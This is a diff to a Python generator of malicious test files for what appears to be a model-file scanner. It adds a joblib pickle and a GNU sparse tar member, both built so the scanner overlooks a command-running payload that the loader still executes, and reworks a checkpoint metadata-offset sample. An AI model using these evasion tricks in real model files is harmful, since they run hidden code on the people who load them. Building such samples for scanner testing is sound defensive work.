@@ -25,7 +25,6 @@ Helpers (pickle assembler, raw zip writer, .npy builder, payload commands) come 
 
 from __future__ import annotations
 
-import bz2
 import dataclasses
 import gzip
 import importlib.util
@@ -57,8 +56,8 @@ def _sibling(name: str) -> Any:
 
 gm = _sibling("gen_malicious")
 ENV = gm.ENV
-G, S, SB, BY, T, L, call, pk, inject, sh, py = gm.G, gm.S, gm.SB, gm.BY, gm.T, gm.L, gm.call, gm.pk, gm.inject, gm.sh, gm.py
-raw_zip, zip_members, npy_object = gm.raw_zip, gm.zip_members, gm.npy_object
+G, S, BY, T, call, pk, inject, sh, py = gm.G, gm.S, gm.BY, gm.T, gm.call, gm.pk, gm.inject, gm.sh, gm.py
+zip_members, npy_object = gm.zip_members, gm.npy_object
 
 ROOT_CAUSES = {
     1: "fail-open verdicts (streams the machine refuses or stops on)",
@@ -522,7 +521,6 @@ def _npz_two_views(miniz_view: list[tuple[str, bytes]], zipfile_view: list[tuple
     out += cd_m
     cd_z_len = sum(len(cen) for _l, cen in z_locals)
     assert cd_z_len == len(cd_m), "both directories must have the same size (name lengths)"
-    concat = None
     cd_z = b""
     for local, central in z_locals:
         off = len(out)
@@ -659,6 +657,17 @@ def _n06(ctx: Ctx, s: Sample) -> None:
     joblib.dump({"weights": np.arange(4.0), "meta": arr}, ctx.path(s.name))
 
 
+@sample("n08_joblib_array_swallows.pkl", 3, "joblib", "joblib NumpyArrayWrapper (no alignment padding) whose 5 raw uint8 bytes are a BINUNICODE header: a walk that reads the array bytes as opcodes sees the payload as a string, joblib skips them and runs it")
+def _n08(ctx: Ctx, s: Sample) -> None:
+    import numpy as np
+
+    payload = p0_system(s.name)
+    arr = b"X" + struct.pack("<I", len(payload))
+    dt = pickle.dumps(np.dtype("uint8"), protocol=2)[2:-1]
+    state = b"}(" + S("subclass") + G("numpy", "ndarray") + S("shape") + b"K\x05\x85" + S("order") + S("C") + S("dtype") + dt + S("allow_mmap") + b"\x89u"
+    ctx.write(s.name, b"\x80\x02" + G("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + arr + payload + b"0.")
+
+
 @sample("n07_lfb_zip_deflated.pt", 3, "torch", "_load_from_bytes of a torch zip whose data.pkl is deflate-compressed (miniz inflates it)", torch=True)
 def _n07(ctx: Ctx, s: Sample) -> None:
     _d, members, _prefix = ctx.clean_zip()
@@ -755,6 +764,46 @@ def _t05(ctx: Ctx, s: Sample) -> None:
     ctx.write(s.name, tar_of(list(parts.items()) + [("pickle", benign), ("pickle", evil)]))
 
 
+def _gnu_member(name: str, data: bytes) -> bytes:
+    ti = tarfile.TarInfo(name)
+    ti.size, ti.mtime = len(data), 0
+    return ti.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % 512)
+
+
+def _gnu_sparse_member(name: str, segments: list[tuple[int, bytes]], realsize: int) -> bytes:
+    """An old-style GNU sparse member ('S'): the archive stores only ``segments``;
+    tarfile.extractfile reassembles them with zero-filled holes up to ``realsize``."""
+    assert len(segments) <= 4
+    stored = b"".join(d for _o, d in segments)
+    ti = tarfile.TarInfo(name)
+    ti.size, ti.mtime = len(stored), 0
+    h = bytearray(ti.tobuf(format=tarfile.GNU_FORMAT))
+    h[156:157] = b"S"
+    pos = 386
+    for off, d in segments:
+        h[pos : pos + 12] = b"%011o\0" % off
+        h[pos + 12 : pos + 24] = b"%011o\0" % len(d)
+        pos += 24
+    h[482] = 0
+    h[483:495] = b"%011o\0" % realsize
+    h[148:156] = b" " * 8
+    h[148:156] = b"%06o\0 " % sum(h)
+    return bytes(h) + stored + b"\0" * (-len(stored) % 512)
+
+
+@sample("t06_tar_sparse_pickle.tar", 9, "torch", "legacy tar whose 'pickle' is a GNU sparse member: reassembled (with its zero hole) it runs the payload; its stored bytes read as a pickle hide it in a string", torch=True)
+def _t06(ctx: Ctx, s: Sample) -> None:
+    payload = p0_system(s.name)
+    hole = len(payload) + 1 + 2 * 8
+    head = b"\x80\x02X" + struct.pack("<I", 4 + hole)
+    tail = b"aaaa" + payload + b"0" + b"N0" * 8 + b"0}."
+    parts = dict(_legacy_parts(s.name))
+    parts.pop("data/0")
+    out = b"".join(_gnu_member(n, d) for n, d in parts.items())
+    out += _gnu_sparse_member("pickle", [(0, head), (len(head) + hole, tail)], len(head) + hole + len(tail))
+    ctx.write(s.name, out + b"\0" * 1024)
+
+
 # ======================================================================================
 # RC4 (DCP): items read from the byte ranges of .metadata, whatever the names
 # ======================================================================================
@@ -831,23 +880,13 @@ def _d04(ctx: Ctx, s: Sample) -> None:
     mp = os.path.join(d, ".metadata")
     with open(mp, "rb") as f:
         md = gm._plain_pickle_load(f.read())
-    # the metadata pickle's length does not depend on the offsets' values if they are
-    # written with a fixed width: use BININT (protocol 2 writes ints < 2**31 as BININT)
-    head_len = 0
-    for _ in range(3):
-        for k, v in list(md.storage_data.items()):
-            md.storage_data[k] = dataclasses.replace(v, relative_path=".metadata", offset=(v.offset if head_len == 0 else v.offset) + 0)
-        blob = pickle.dumps(md, protocol=2)
-        if len(blob) == head_len:
-            break
-        head_len = len(blob)
-    base = {k: v.offset for k, v in md.storage_data.items()}
+    start = 70000  # the items start here, after the metadata pickle and zero padding
     for k, v in list(md.storage_data.items()):
-        md.storage_data[k] = dataclasses.replace(v, offset=base[k] + 70000)
+        md.storage_data[k] = dataclasses.replace(v, relative_path=".metadata", offset=v.offset + start)
     blob = pickle.dumps(md, protocol=2)
-    assert len(blob) < 70000
+    assert len(blob) < start
     with open(mp, "wb") as f:
-        f.write(blob + b"\0" * (70000 - len(blob)) + data)
+        f.write(blob + b"\0" * (start - len(blob)) + data)
 
 
 @sample("d05_dcp_gap_before_items", 4, "dcp", "DCP data file with 64 KiB of zeros before the items (offsets shifted): a split at zip signatures from byte 0 finds nothing", torch=True)
